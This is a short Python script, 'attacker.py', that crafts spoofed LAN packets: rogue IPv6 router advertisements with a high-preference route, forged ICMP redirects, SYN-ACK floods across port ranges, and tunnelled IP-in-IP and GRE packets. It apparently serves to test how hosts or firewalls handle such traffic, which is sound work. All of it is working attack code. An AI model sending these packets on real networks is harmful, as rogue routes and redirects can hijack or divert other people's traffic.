"""Packets that only an attacker on the LAN makes; nothing here waits for an answer.

usage: attacker.py advertise DEVICE PREFIX/LENGTH          a router advertisement with a route (RFC 4191)
       attacker.py redirect DEVICE FROM TO DESTINATION VIA [SOURCE_PORT DESTINATION_PORT]
                                                           an ICMP redirect from a router to a host: DESTINATION is
                                                           reached by way of VIA; over IPv4 it quotes the host's own UDP
                                                           packet with these ports
       attacker.py knock FROM PORT FIRST LAST TO...        TCP segments with SYN and ACK to a range of ports
       attacker.py carry FROM TO                           packets with a packet in them, over IPv4 or IPv6: IPv4 (4), IPv6
                                                           (41), and IPv4 in GRE (47)
"""

import socket
import struct
import sys

IPV6_HDRINCL = 36


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def family_of(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def packed(address):
    return socket.inet_pton(family_of(address), address)


def with_checksum(source, destination, protocol, segment, at):
    """A segment with its checksum over the pseudo header, the same for both families."""
    pseudo = packed(source) + packed(destination) + struct.pack("!II", len(segment), protocol)
    return segment[:at] + struct.pack("!H", checksum(pseudo + segment)) + segment[at + 2 :]


def packet(source, destination, protocol, payload, hops=64):
    """An IP packet with its header."""
    ends = packed(source) + packed(destination)
    if family_of(source) == socket.AF_INET6:
        return struct.pack("!IHBB", 6 << 28, len(payload), protocol, hops) + ends + payload
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 1, 0, hops, protocol, 0) + ends
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


class Sender:
    """Sends whole IP packets, whatever source address they claim."""

    def __init__(self, family):
        self.socket = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
        if family == socket.AF_INET6:
            self.socket.setsockopt(socket.IPPROTO_IPV6, IPV6_HDRINCL, 1)

    def send(self, source, destination, protocol, payload, hops=64):
        self.socket.sendto(packet(source, destination, protocol, payload, hops), (destination, 0))


def advertise(device, route):
    """By a raw socket, because a router advertisement has to come from the link-local address of the link."""
    prefix, length = route.split("/")
    sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
    index = socket.if_nametoindex(device)
    # Lifetime 0: no default router. The route: of high preference, for 1800 s.
    advertisement = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 0, 0, 0)
    option = struct.pack("!BBBBI", 24, 3, int(length), 0x08, 1800) + packed(prefix)
    sock.sendto(advertisement + option, ("ff02::1", 0, 0, index))


def redirect(device, source, host, destination, via, source_port="0", destination_port="0"):
    if family_of(host) == socket.AF_INET:
        udp = struct.pack("!HHHH", int(source_port), int(destination_port), 8, 0)
        body = struct.pack("!BBH", 5, 1, 0) + packed(via) + packet(host, destination, 17, udp)
        body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
        Sender(socket.AF_INET).send(source, host, 1, body)
        return
    sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
    sock.bind((source, 0, 0, socket.if_nametoindex(device)))
    sock.sendto(struct.pack("!BBHI", 137, 0, 0, 0) + packed(via) + packed(destination), (host, 0))


def knock(source, port, first, last, *destinations):
    sender = Sender(family_of(source))
    for destination in destinations:
        for target in range(int(first), int(last) + 1):
            segment = struct.pack("!HHIIBBHHH", int(port), target, 1, 1, 0x50, 0x12, 64240, 0, 0)
            sender.send(source, destination, 6, with_checksum(source, destination, 6, segment, 16))


def carry(source, host):
    inner = packet("192.0.2.66", "192.0.2.67", 17, struct.pack("!HHHH", 9, 9, 8, 0))
    inner6 = packet("2001:db8:66::1", "2001:db8:66::2", 59, b"")
    sender = Sender(family_of(host))
    sender.send(source, host, 4, inner)
    sender.send(source, host, 41, inner6)
    sender.send(source, host, 47, struct.pack("!HH", 0, 0x0800) + inner)


def main():
    attacks = {"advertise": advertise, "redirect": redirect, "knock": knock, "carry": carry}
    attacks[sys.argv[1]](*sys.argv[2:])


main()
